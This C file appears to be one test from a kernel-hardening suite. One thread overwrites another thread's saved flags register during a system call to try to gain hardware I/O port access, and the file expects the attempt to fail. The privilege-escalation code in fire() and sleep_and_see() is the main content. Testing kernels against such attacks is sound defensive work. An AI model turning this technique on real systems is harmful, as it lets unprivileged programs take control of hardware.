// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"
#include "thread.h"

ATTACK("shadow_stack", "own_segments", "LOST",
       "While a thread is in a call, another one of the same program, whose page tables show "
       "them, writes to its registers: the flags that give a program the machine's ports.",
       "On the way out segments and flags are made those of a program, whatever is there.",
       "The program may use the ports of all devices.");

static volatile uint32_t reader_id;
static volatile bool returned;

static bool control(void)
{
	return is_ordinary();
}

static void sleep_and_see(void)
{
	reader_id = (uint32_t)call0(__NR_gettid);
	sleep_milliseconds(300);
	returned = true;
	if ((flags_now() & PORTS) == PORTS) {
		__asm__ volatile("cli; sti");
		say_result("WON");
	}
	for (;;)
		sleep_milliseconds(1000);
}

static bool fire(void)
{
	const uint64_t task = own_task();
	uint64_t flags;

	start_thread(sleep_and_see);
	while (!reader_id)
		sleep_milliseconds(10);
	sleep_milliseconds(100);
	flags = own_registers(thread_task(task, reader_id)) + member("arch_frame.rflags");
	poke(flags, peek(flags) | PORTS);
	while (!returned)
		sleep_milliseconds(50);
	sleep_milliseconds(100);
	return false;
}

static void victim(void)
{
	victim_waits();
}
